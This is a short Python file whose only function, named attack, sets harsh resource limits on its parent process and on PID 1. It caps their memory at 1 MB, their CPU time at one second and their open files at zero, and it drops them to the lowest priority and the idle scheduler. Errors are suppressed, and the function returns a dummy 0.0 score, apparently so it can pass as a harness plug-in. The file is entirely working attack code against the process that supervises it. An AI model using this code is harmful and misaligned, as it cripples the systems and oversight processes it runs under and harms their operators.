"""Takes memory, files and priority from its supervisor."""

import os
import resource


def attack(name, *args, **kwargs):
    for target in (os.getppid(), 1):
        for attempt in (
            lambda: resource.prlimit(target, resource.RLIMIT_AS, (1 << 20, 1 << 20)),
            lambda: resource.prlimit(target, resource.RLIMIT_CPU, (1, 1)),
            lambda: resource.prlimit(target, resource.RLIMIT_NOFILE, (0, 0)),
            lambda: os.setpriority(os.PRIO_PROCESS, target, 19),
            lambda: os.sched_setscheduler(target, os.SCHED_IDLE, os.sched_param(0)),
        ):
            try:
                attempt()
            except OSError:
                continue
    return 0.0
